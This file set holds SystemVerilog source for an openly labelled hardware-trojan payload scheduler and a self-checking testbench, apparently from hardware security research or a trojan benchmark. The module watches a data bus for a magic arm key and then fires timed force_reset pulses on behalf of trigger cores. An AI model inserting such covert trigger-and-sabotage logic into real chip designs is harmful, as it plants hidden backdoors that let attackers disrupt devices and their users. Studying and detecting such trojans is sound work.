// File: rtl/trojan_pkg.sv
// Shared types and default parameters for the trojan payload schedulers.
//   state_t         : scheduler FSM state encoding (2 bits)
//   DEF_ARM_KEY     : default data-bus value that arms the scheduler
//   DEF_PULSE_CYCLES, DEF_COOLDOWN_CYCLES : default pulse / cooldown lengths
package trojan_pkg;

  typedef enum logic [1:0] {
    DISARMED = 2'd0,
    ARMED    = 2'd1,
    FIRE     = 2'd2,
    COOLDOWN = 2'd3
  } state_t;

  localparam logic [7:0] DEF_ARM_KEY         = 8'hA5;
  localparam int         DEF_PULSE_CYCLES    = 4;
  localparam int         DEF_COOLDOWN_CYCLES = 16;

  function automatic int max_int(input int a, input int b);
    return (a > b) ? a : b;
  endfunction

endpackage

// File: rtl/trojan_payload_scheduler_rr_arbiter.sv
// Combinational round-robin arbiter.
//   req     in  NUM_REQ          request vector
//   rr_ptr  in  $clog2(NUM_REQ)  index of the previous winner
//   winner  out $clog2(NUM_REQ)  first set request after rr_ptr (wrapping)
//   valid   out 1                at least one request is set
module rr_arbiter #(
  parameter int NUM_REQ = 4
) (
  input  logic [NUM_REQ-1:0]         req,
  input  logic [$clog2(NUM_REQ)-1:0] rr_ptr,
  output logic [$clog2(NUM_REQ)-1:0] winner,
  output logic                       valid
);
  import trojan_pkg::*;

  localparam int IW = $clog2(NUM_REQ);

  // Scan rr_ptr+1, rr_ptr+2, ... so the previous winner is checked last.
  always_comb begin
    logic [IW-1:0] cand;
    int            idx;
    winner = '0;
    valid  = 1'b0;
    cand   = '0;
    idx    = 0;
    for (int i = 1; i <= NUM_REQ; i++) begin
      idx  = (int'(rr_ptr) + i) % NUM_REQ;
      cand = IW'(idx);
      if (!valid && req[cand]) begin
        valid  = 1'b1;
        winner = cand;
      end
    end
  end

endmodule

// File: rtl/trojan_payload_scheduler.sv
// Shares one force_reset payload between NUM_REQ trigger cores.
//   clk          in  1        system clock
//   rst          in  1        synchronous active-high reset
//   data_in      in  8        snooped data bus (ARM_KEY arms, ~ARM_KEY disarms)
//   req          in  NUM_REQ  level trigger requests
//   grant        out NUM_REQ  one-hot owner of the current pulse
//   grant_id     out $clog2(NUM_REQ) index of the last granted requester
//   force_reset  out 1        payload pulse, PULSE_CYCLES wide
//   armed        out 1        high whenever not DISARMED
//
// state    | meaning
// DISARMED | waiting for ARM_KEY, requests ignored
// ARMED    | idle, next request fires (disarm wins over request)
// FIRE     | pulse active, grant and force_reset held
// COOLDOWN | enforced idle gap, requests dropped, disarm deferred here
module trojan_payload_scheduler
  import trojan_pkg::*;
#(
  parameter int         NUM_REQ         = 4,
  parameter int         PULSE_CYCLES    = DEF_PULSE_CYCLES,
  parameter int         COOLDOWN_CYCLES = DEF_COOLDOWN_CYCLES,
  parameter logic [7:0] ARM_KEY         = DEF_ARM_KEY
) (
  input  logic                       clk,
  input  logic                       rst,
  input  logic [7:0]                 data_in,
  input  logic [NUM_REQ-1:0]         req,
  output logic [NUM_REQ-1:0]         grant,
  output logic [$clog2(NUM_REQ)-1:0] grant_id,
  output logic                       force_reset,
  output logic                       armed
);

  localparam int IW = $clog2(NUM_REQ);
  localparam int CW = $clog2(max_int(PULSE_CYCLES, COOLDOWN_CYCLES)) + 1;

  state_t        state;
  logic [CW-1:0] cnt;
  logic [IW-1:0] rr_ptr;
  logic          pend_disarm;
  logic [IW-1:0] winner;
  logic          win_valid;
  logic          is_arm;
  logic          is_disarm;

  assign is_arm    = (data_in == ARM_KEY);
  assign is_disarm = (data_in == ~ARM_KEY);

  rr_arbiter #(.NUM_REQ(NUM_REQ)) u_arb (
    .req    (req),
    .rr_ptr (rr_ptr),
    .winner (winner),
    .valid  (win_valid)
  );

  always_ff @(posedge clk) begin
    if (rst) begin
      state       <= DISARMED;
      grant       <= '0;
      grant_id    <= '0;
      force_reset <= 1'b0;
      armed       <= 1'b0;
      rr_ptr      <= IW'(NUM_REQ - 1);
      cnt         <= '0;
      pend_disarm <= 1'b0;
    end else begin
      case (state)
        DISARMED: begin
          if (is_arm) begin
            state <= ARMED;
            armed <= 1'b1;
          end
        end
        ARMED: begin
          if (is_disarm) begin
            state <= DISARMED;
            armed <= 1'b0;
          end else if (win_valid) begin
            state       <= FIRE;
            grant       <= NUM_REQ'(1) << winner;
            grant_id    <= winner;
            rr_ptr      <= winner;
            force_reset <= 1'b1;
            cnt         <= CW'(PULSE_CYCLES - 1);
          end
        end
        FIRE: begin
          if (is_disarm) pend_disarm <= 1'b1;
          if (cnt == '0) begin
            state       <= COOLDOWN;
            force_reset <= 1'b0;
            grant       <= '0;
            cnt         <= CW'(COOLDOWN_CYCLES - 1);
          end else begin
            cnt <= cnt - 1'b1;
          end
        end
        COOLDOWN: begin
          // The bus value on the final cooldown cycle still counts.
          if (cnt == '0) begin
            pend_disarm <= 1'b0;
            if (is_disarm || (pend_disarm && !is_arm)) begin
              state <= DISARMED;
              armed <= 1'b0;
            end else begin
              state <= ARMED;
            end
          end else begin
            cnt <= cnt - 1'b1;
            if (is_disarm)   pend_disarm <= 1'b1;
            else if (is_arm) pend_disarm <= 1'b0;
          end
        end
        default: begin
          state <= DISARMED;
          armed <= 1'b0;
        end
      endcase
    end
  end

endmodule

// File: tb/tb_trojan_payload_scheduler.sv
module tb_trojan_payload_scheduler;

  localparam int N  = 4;
  localparam int P  = 4;
  localparam int C  = 16;
  localparam logic [7:0] KEY  = 8'hA5;
  localparam logic [7:0] NKEY = 8'h5A;

  logic       clk = 1'b0;
  logic       rst;
  logic [7:0] data_in;
  logic [3:0] req;
  logic [3:0] grant;
  logic [1:0] grant_id;
  logic       force_reset;
  logic       armed;

  int n_checks = 0;
  int n_fail   = 0;

  trojan_payload_scheduler dut (
    .clk         (clk),
    .rst         (rst),
    .data_in     (data_in),
    .req         (req),
    .grant       (grant),
    .grant_id    (grant_id),
    .force_reset (force_reset),
    .armed       (armed)
  );

  always #5 clk = ~clk;

  // Reference model: timeline-based. A fire at edge f means the pulse is high
  // after edges f..f+P-1 and the block is busy until edge f+P+C.
  int   t = 0;
  bit   m_on = 0, m_busy = 0, m_pend = 0;
  int   m_f = 0, m_last = N - 1, m_win = 0;
  logic [1:0] m_gid = 0;
  logic [3:0] m_grant = 0;
  logic       m_force = 0, m_armed = 0;

  task automatic model_step(input logic [7:0] d, input logic [3:0] r, input logic rs);
    int e;
    t++;
    if (rs) begin
      m_on = 0; m_busy = 0; m_pend = 0; m_last = N - 1; m_gid = 0;
    end else if (!m_on) begin
      if (d == KEY) m_on = 1;
    end else if (m_busy) begin
      e = t - m_f;
      if (d == NKEY) m_pend = 1;
      else if (d == KEY && e > P) m_pend = 0;
      if (e == P + C) begin
        m_busy = 0;
        if (m_pend) m_on = 0;
        m_pend = 0;
      end
    end else begin
      if (d == NKEY) m_on = 0;
      else if (r != 0) begin
        for (int k = N; k >= 1; k--)
          if (r[(m_last + k) % N]) m_win = (m_last + k) % N;
        m_last = m_win; m_gid = 2'(m_win); m_busy = 1; m_f = t;
      end
    end
    m_force = m_busy && ((t - m_f) < P);
    m_grant = m_force ? (4'b0001 << m_win) : 4'b0000;
    m_armed = m_on;
  endtask

  task automatic tick(input logic [7:0] d, input logic [3:0] r, input logic rs);
    data_in = d; req = r; rst = rs;
    @(posedge clk);
    model_step(d, r, rs);
    #1;
  endtask

  task automatic test_reset();
    tick(8'h00, 4'b1111, 1'b1);
    tick(8'h00, 4'b1111, 1'b1);
    n_checks++;
    if (grant !== 4'b0 || grant_id !== 2'd0 || force_reset !== 1'b0 || armed !== 1'b0) begin
      n_fail++;
      $display("FAIL reset_state: g=%b id=%0d f=%b a=%b expected all zero", grant, grant_id, force_reset, armed);
    end
    for (int i = 0; i < 20; i++) begin
      tick(8'h00, 4'b1111, 1'b0);
      n_checks++;
      if (grant !== 4'b0 || force_reset !== 1'b0 || armed !== 1'b0) begin
        n_fail++;
        $display("FAIL idle_disarmed cyc%0d: g=%b f=%b a=%b expected 0 0 0", i, grant, force_reset, armed);
      end
    end
  endtask

  task automatic test_arm_fire();
    int hi;
    tick(KEY, 4'b0000, 1'b0);
    n_checks++;
    if (armed !== 1'b1) begin
      n_fail++; $display("FAIL arm: armed=%b expected 1", armed);
    end
    tick(8'h00, 4'b0100, 1'b0);
    n_checks++;
    if (force_reset !== 1'b1 || grant !== 4'b0100 || grant_id !== 2'd2) begin
      n_fail++;
      $display("FAIL fire_latency: f=%b g=%b id=%0d expected 1 0100 2", force_reset, grant, grant_id);
    end
    hi = 1;
    for (int i = 0; i < 24; i++) begin
      tick(8'h00, 4'b0000, 1'b0);
      if (force_reset) hi++;
      n_checks++;
      if (force_reset !== (i < 3) || grant !== ((i < 3) ? 4'b0100 : 4'b0000) || armed !== 1'b1) begin
        n_fail++;
        $display("FAIL pulse_shape cyc%0d: f=%b g=%b a=%b expected %b %b 1", i, force_reset, grant, armed,
                 (i < 3), (i < 3) ? 4'b0100 : 4'b0000);
      end
    end
    n_checks++;
    if (hi !== P) begin
      n_fail++; $display("FAIL pulse_width: got %0d expected %0d", hi, P);
    end
  endtask

  task automatic test_round_robin();
    logic [3:0] exp_g [4] = '{4'b0001, 4'b0010, 4'b1000, 4'b0001};
    logic [3:0] got_g [$];
    int         got_t [$];
    logic       prev;
    tick(8'h00, 4'b0000, 1'b1);
    tick(KEY, 4'b0000, 1'b0);
    prev = 1'b0;
    for (int i = 0; i < 100; i++) begin
      tick(8'h00, 4'b1011, 1'b0);
      n_checks++;
      if (grant !== m_grant || grant_id !== m_gid || force_reset !== m_force || armed !== m_armed) begin
        n_fail++;
        $display("FAIL rr_model cyc%0d: g=%b id=%0d f=%b a=%b expected %b %0d %b %b", i, grant, grant_id,
                 force_reset, armed, m_grant, m_gid, m_force, m_armed);
      end
      if (force_reset && !prev && got_g.size() < 4) begin
        got_g.push_back(grant); got_t.push_back(i);
      end
      prev = force_reset;
    end
    n_checks++;
    if (got_g.size() != 4) begin
      n_fail++; $display("FAIL rr_count: got %0d grants expected 4", got_g.size());
    end else begin
      for (int k = 0; k < 4; k++) begin
        n_checks++;
        if (got_g[k] !== exp_g[k]) begin
          n_fail++; $display("FAIL rr_order %0d: got %b expected %b", k, got_g[k], exp_g[k]);
        end
        if (k > 0) begin
          n_checks++;
          if (got_t[k] - got_t[k-1] != P + C + 1) begin
            n_fail++;
            $display("FAIL rr_spacing %0d: got %0d expected %0d", k, got_t[k] - got_t[k-1], P + C + 1);
          end
        end
      end
    end
  endtask

  task automatic test_disarm_priority();
    tick(8'h00, 4'b0000, 1'b1);
    tick(KEY, 4'b0000, 1'b0);
    tick(NKEY, 4'b0001, 1'b0);
    n_checks++;
    if (armed !== 1'b0 || force_reset !== 1'b0 || grant !== 4'b0) begin
      n_fail++; $display("FAIL disarm_priority: a=%b f=%b g=%b expected 0 0 0000", armed, force_reset, grant);
    end
    for (int i = 0; i < 10; i++) begin
      tick(8'h00, 4'b0001, 1'b0);
      n_checks++;
      if (force_reset !== 1'b0 || armed !== 1'b0) begin
        n_fail++; $display("FAIL disarmed_ignores_req cyc%0d: f=%b a=%b expected 0 0", i, force_reset, armed);
      end
    end
  endtask

  task automatic test_deferred_disarm();
    int hi;
    tick(8'h00, 4'b0000, 1'b1);
    tick(KEY, 4'b0000, 1'b0);
    tick(8'h00, 4'b0001, 1'b0);
    hi = force_reset ? 1 : 0;
    tick(8'h00, 4'b0001, 1'b0);
    if (force_reset) hi++;
    tick(NKEY, 4'b0001, 1'b0);
    if (force_reset) hi++;
    for (int i = 0; i < 18; i++) begin
      tick(8'h00, 4'b0001, 1'b0);
      if (force_reset) hi++;
      n_checks++;
      if (armed !== (i < 17) || armed !== m_armed || force_reset !== m_force) begin
        n_fail++;
        $display("FAIL deferred_armed cyc%0d: a=%b f=%b expected %b %b", i, armed, force_reset, (i < 17), m_force);
      end
    end
    n_checks++;
    if (hi !== P) begin
      n_fail++; $display("FAIL deferred_pulse_width: got %0d expected %0d", hi, P);
    end
    for (int i = 0; i < 30; i++) begin
      tick(8'h00, 4'b1111, 1'b0);
      n_checks++;
      if (force_reset !== 1'b0 || armed !== 1'b0) begin
        n_fail++; $display("FAIL after_disarm cyc%0d: f=%b a=%b expected 0 0", i, force_reset, armed);
      end
    end
  endtask

  task automatic test_reset_mid_pulse();
    tick(8'h00, 4'b0000, 1'b1);
    tick(KEY, 4'b0000, 1'b0);
    tick(8'h00, 4'b0010, 1'b0);
    tick(8'h00, 4'b0010, 1'b0);
    tick(8'h00, 4'b0010, 1'b0);
    n_checks++;
    if (force_reset !== 1'b1 || grant !== 4'b0010 || grant_id !== 2'd1) begin
      n_fail++; $display("FAIL pre_reset_pulse: f=%b g=%b id=%0d expected 1 0010 1", force_reset, grant, grant_id);
    end
    tick(8'h00, 4'b0010, 1'b1);
    n_checks++;
    if (force_reset !== 1'b0 || grant !== 4'b0 || armed !== 1'b0 || grant_id !== 2'd0) begin
      n_fail++;
      $display("FAIL mid_pulse_reset: f=%b g=%b a=%b id=%0d expected 0 0000 0 0", force_reset, grant, armed, grant_id);
    end
    tick(8'h00, 4'b1111, 1'b0);
    n_checks++;
    if (force_reset !== 1'b0) begin
      n_fail++; $display("FAIL needs_rearm: f=%b expected 0", force_reset);
    end
    tick(KEY, 4'b0000, 1'b0);
    tick(8'h00, 4'b1111, 1'b0);
    n_checks++;
    if (grant !== 4'b0001 || grant_id !== 2'd0 || force_reset !== 1'b1) begin
      n_fail++; $display("FAIL rr_ptr_restored: g=%b id=%0d f=%b expected 0001 0 1", grant, grant_id, force_reset);
    end
  endtask

  task automatic test_random();
    logic [7:0] d;
    logic [3:0] r;
    logic       rs;
    tick(8'h00, 4'b0000, 1'b1);
    for (int i = 0; i < 3000; i++) begin
      case ($urandom_range(0, 9))
        0, 1:    d = KEY;
        2:       d = NKEY;
        default: d = 8'($urandom);
      endcase
      r  = ($urandom_range(0, 3) == 0) ? 4'b0000 : 4'($urandom);
      rs = ($urandom_range(0, 299) == 0);
      tick(d, r, rs);
      n_checks++;
      if (grant !== m_grant || grant_id !== m_gid || force_reset !== m_force || armed !== m_armed) begin
        n_fail++;
        $display("FAIL random cyc%0d: g=%b id=%0d f=%b a=%b expected %b %0d %b %b", i, grant, grant_id,
                 force_reset, armed, m_grant, m_gid, m_force, m_armed);
      end
    end
  endtask

  initial begin
    rst = 1'b1; data_in = 8'h00; req = 4'b0000;
    test_reset();
    test_arm_fire();
    test_round_robin();
    test_disarm_priority();
    test_deferred_disarm();
    test_reset_mid_pulse();
    test_random();
    $display("End of test - %0d assertions evaluated, %0d failures", n_checks, n_fail);
    $finish;
  end

endmodule
